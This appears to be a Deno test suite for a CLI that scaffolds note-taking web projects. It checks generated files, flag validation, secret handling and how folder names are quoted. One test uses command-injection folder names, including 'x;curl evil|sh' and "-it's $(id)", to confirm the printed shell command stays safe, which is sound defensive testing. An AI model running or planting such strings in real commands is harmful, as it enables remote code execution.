import { deepStrictEqual, doesNotMatch, match, strictEqual } from "node:assert";
import { existsSync } from "node:fs";
import { needing } from "../_needs.ts";
import { startProgram } from "../_program.ts";
import { until } from "../_within.ts";
import { cli, deno, inFolder, linkHere, run } from "./_cli.ts";

// Nothing answers here: the project needs no registry but npm's once the package is in reach.
const env = { JSR_URL: "http://127.0.0.1:1/" };

const FILES = [
  ".dockerignore",
  ".env",
  ".env.example",
  ".github/workflows/ci.yml",
  ".gitignore",
  "Dockerfile",
  "README.md",
  "deno.json",
  "main.ts",
];
const NOTES = [
  "data.ts",
  "db.ts",
  "pages/about.ts",
  "pages/notes.ts",
  "parts/shell.ts",
  "static/icon.svg",
  "style.css",
  "tests/browser_test.ts",
  "tests/notes_test.ts",
];
const AUTH = ["pages/accounts.ts", "parts/sign_out.ts"];

for (
  const [flags, more] of [
    ["", [...AUTH, ...NOTES]],
    ["--no-auth", NOTES],
    ["--db postgres --no-auth", NOTES],
    ["--db postgres --auth", [...AUTH, ...NOTES]],
    ["--blank", ["main_test.ts"]],
  ] as const
) {
  Deno.test(`\`new ${flags}\` makes a project that passes its own \`deno task ok\``, () =>
    inFolder(async (cwd) => {
      const args = ["new", "my-notes", ...flags.split(" ").filter(Boolean)];
      const { code, stdout, stderr } = await cli(args, { cwd, env });
      deepStrictEqual([code, stdout], [0, "Made my-notes. Next: cd my-notes && deno task dev\n"]);
      match(stderr, /meta.json' failed.\nThe packages are still missing: `deno task dev`/);
      const project = `${cwd}/my-notes`;
      deepStrictEqual(listFiles(project), [...FILES, ...more].sort());
      const { imports } = JSON.parse(await Deno.readTextFile(`${project}/deno.json`));
      match(imports["@fasthtml/fasthtml"], /^jsr:@fasthtml\/fasthtml@\^\d+\.\d+\.\d+$/);
      for (const file of listFiles(project)) {
        const text = await Deno.readTextFile(`${project}/${file}`);
        doesNotMatch(text, /\{\{|(\/\/|#) --\w|from "jsr:/, file);
      }
      await linkHere(project);
      const ok = await deno(["task", "ok"], { cwd: project, env });
      strictEqual(ok.code, 0, ok.stdout + ok.stderr);
    }));
}

Deno.test({
  ...needing(["git"], "`new` makes a repository that ignores secrets and data"),
  fn: () =>
    inFolder(async (cwd) => {
      await cli(["new", "notes"], { cwd, env });
      const project = `${cwd}/notes`;
      await Deno.mkdir(`${project}/data`);
      await Deno.writeTextFile(`${project}/data/app.db`, "");
      // What a program leaves there that names no other file of its secret.
      await Deno.writeTextFile(`${project}/.sesskey`, "");
      const { stdout } = await run("git", ["status", "--short", "--branch"], { cwd: project });
      deepStrictEqual(stdout.split("\n").filter((line) => !/^\?\? /.test(line)), [
        "## No commits yet on main",
        "",
      ]);
      doesNotMatch(stdout, /\.env$|data\/$|\.sesskey$/m);
      const dockerignore = await Deno.readTextFile(`${project}/.dockerignore`);
      deepStrictEqual(dockerignore, "/data/\n.env\n.sesskey\n.git/\n.github/\n");
      match(await Deno.readTextFile(`${project}/.env`), /^FASTHTML_SECRET=[\da-f]{48}$/m);
      match(await Deno.readTextFile(`${project}/.env.example`), /^#FASTHTML_SECRET=$/m);
      await cli(["new", "inner"], { cwd: project, env });
      strictEqual(existsSync(`${project}/inner/.git`), false);
    }),
});

Deno.test("`new` rejects flags that contradict each other, and databases that it does not know", () =>
  inFolder(async (cwd) => {
    for (
      const [flags, message] of [
        [
          "--blank --auth",
          "Cannot make a project: --blank has neither users nor a database, expected it alone",
        ],
        [
          "--blank --no-auth",
          "Cannot make a project: --blank has neither users nor a database, expected it alone",
        ],
        [
          "--blank --db sqlite",
          "Cannot make a project: --blank has neither users nor a database, expected it alone",
        ],
        [
          "--db mysql",
          "error: option '--db <kind>' argument 'mysql' is invalid. Allowed choices are sqlite, postgres.",
        ],
      ]
    ) {
      const { code, stdout, stderr } = await cli(["new", "x", ...flags!.split(" ")], { cwd });
      deepStrictEqual([code, stdout, stderr], [1, "", `${message}\n`]);
    }
    deepStrictEqual([...Deno.readDirSync(cwd)], []);
  }));

Deno.test("`new`'s start task needs only its narrow permissions, and keeps data and secret in data/", () =>
  inFolder(async (cwd) => {
    await cli(["new", "notes", "--no-auth"], { cwd, env });
    const project = `${cwd}/notes`;
    await linkHere(project);
    {
      await using program = await startProgram(["task", "start"], { cwd: project, env });
      const body = new URLSearchParams({ text: "Buy milk" });
      const headers = { "hx-request": "true", connection: "close" };
      const added = await fetch(`${program.origin}/add`, { method: "POST", body, headers });
      match(await added.text(), /Buy milk<\/th>/);
      strictEqual(await (await fetch(`${program.origin}/_fasthtml/health`)).text(), "ready");
      await program.end("SIGTERM");
    }
    strictEqual((await Deno.stat(`${project}/data/app.db`)).isFile, true);
  }));

Deno.test("`new`'s dev task shows errors of types beside the program, which goes on", () =>
  inFolder(async (cwd) => {
    await cli(["new", "notes"], { cwd, env });
    const project = `${cwd}/notes`;
    await linkHere(project);
    const program = await startProgram(["task", "dev"], { cwd: project, env });
    const untilPrinted = (pattern: RegExp) =>
      until(120, `${pattern}`, () => pattern.test(program.printed()));
    try {
      const file = `${project}/pages/notes.ts`;
      const text = await Deno.readTextFile(file);
      await untilPrinted(/Check finished/);
      await Deno.writeTextFile(file, text.replace('"outerHTML"', '"outterHTML"'));
      await untilPrinted(/"outterHTML"' is not.*\n?.*Did you mean '"outerHTML"'/);
      match(await (await fetch(program.origin)).text(), /<h1>Sign in<\/h1>/);
    } finally {
      await program.end(); // by SIGTERM, which the task hands on to the programs that it runs
    }
  }));

Deno.test("`new` leaves a folder alone that has something in it, and rejects odd names", () =>
  inFolder(async (cwd) => {
    await Deno.mkdir(`${cwd}/mine`);
    await Deno.writeTextFile(`${cwd}/mine/main.ts`, "mine");
    const name = (name: string) =>
      `its name is "${name}", expected letters and digits, with "_", "-", "." or a space between ` +
      'them, as in "my-notes"';
    const noFolder = (error: string, path: string) =>
      `${error}: mkdir '${cwd}/${path}', expected a new folder, or an empty one`;
    for (
      const [folder, message] of [
        ["mine", '"main.ts" is in mine, expected it empty'],
        ["a/../mine", '"main.ts" is in a/../mine, expected it empty'],
        [".", '"mine" is in ., expected it empty'],
        ["mine/main.ts", noFolder("File exists (os error 17)", "mine/main.ts")],
        ["mine/main.ts/x", noFolder("Not a directory (os error 20)", "mine/main.ts/x")],
        ["a ", name("a ")],
        ["<b>", name("<b>")],
        ["x/a:b", name("a:b")],
        ["dot.", name("dot.")],
        [".git", name(".git")],
        ["x/.config", name(".config")],
        ["node_modules", name("node_modules")],
        ["-x", name("-x")],
        ["--help", name("--help")],
        ["/", name("")],
      ]
    ) {
      deepStrictEqual(await cli(["new", "--", folder!], { cwd }), {
        code: 1,
        stdout: "",
        stderr: `Cannot make a project: ${message}\n`,
      });
    }
    deepStrictEqual([...Deno.readDirSync(cwd)].map(({ name }) => name), ["mine"]);
    deepStrictEqual([...Deno.readDirSync(`${cwd}/mine`)].map(({ name }) => name), ["main.ts"]);
  }));

Deno.test("`new .` makes the project here, in a repository too, under the folder's name", () =>
  inFolder(async (folder) => {
    const cwd = `${folder}/notes`;
    await Deno.mkdir(`${cwd}/.git`, { recursive: true });
    strictEqual(
      (await cli(["new", "."], { cwd, env })).stdout,
      "Made notes. Next: deno task dev\n",
    );
    match(await Deno.readTextFile(`${cwd}/README.md`), /^# notes\n/);
  }));

Deno.test("`new` prints the folder so that a shell takes it as it is", () =>
  inFolder(async (cwd) => {
    for (const parent of ["x;curl evil|sh", "-it's $(id)"]) {
      const { stdout } = await cli(["new", "--blank", "--", `${parent}/ok`], { cwd, env });
      const [, command] = /Next: (.*) && deno task dev\n$/.exec(stdout)!;
      const { stdout: there } = await new Deno.Command("sh", {
        args: ["-c", `${command} && pwd`],
        cwd,
      }).output();
      strictEqual(new TextDecoder().decode(there), `${cwd}/${parent}/ok\n`);
    }
  }));

Deno.test("`new` takes a name with spaces and letters of any language, and the project runs", () =>
  inFolder(async (cwd) => {
    const decomposed = "Grüße an André".normalize("NFD"); // as macOS gives the name of a folder
    const { stdout, stderr } = await cli(["new", decomposed], { cwd, env });
    strictEqual(
      stdout,
      `Made Grüße an André. Next: cd '${decomposed}' && deno task dev\n`,
      stderr,
    );
    const project = `${cwd}/${decomposed}`;
    match(await Deno.readTextFile(`${project}/README.md`), /^# Grüße an André\n/);
    await linkHere(project);
    const ok = await deno(["task", "ok"], { cwd: project, env });
    strictEqual(ok.code, 0, ok.stdout + ok.stderr);
    await using program = await startProgram(["task", "start"], { cwd: project, env });
    const page = await (await fetch(program.origin)).text();
    match(page, /<a href="\/" class="ui-brand">Grüße an André<\/a>/);
    const [sheet] = /\/_fasthtml\/ui\.\w+\.css/.exec(page)!;
    match(await (await fetch(program.origin + sheet)).text(), /#note-table/);
    await program.end("SIGTERM");
  }));

Deno.test("`new`'s tests each pass alone", () =>
  inFolder(async (cwd) => {
    await cli(["new", "notes"], { cwd, env });
    const project = `${cwd}/notes`;
    await linkHere(project);
    const test = await Deno.readTextFile(`${project}/tests/notes_test.ts`);
    const names = [...test.matchAll(/Deno\.test\("([^"]+)"/g)].map(([, name]) => name!);
    strictEqual(names.length, 6);
    for (const name of names) {
      const args = ["test", "-A", "--no-check", "--filter", name, "tests/notes_test.ts"];
      const alone = await deno(args, { cwd: project, env });
      match(alone.stdout, /ok \| 1 passed \| 0 failed/, name);
    }
  }));

/** The files of a folder and of those in it, without what git keeps. */
function listFiles(folder: string, inner = ""): string[] {
  return [...Deno.readDirSync(`${folder}/${inner}`)].filter(({ name }) => name !== ".git")
    .flatMap(({ name, isDirectory }) =>
      isDirectory ? listFiles(folder, `${inner}${name}/`) : [inner + name]
    ).sort();
}
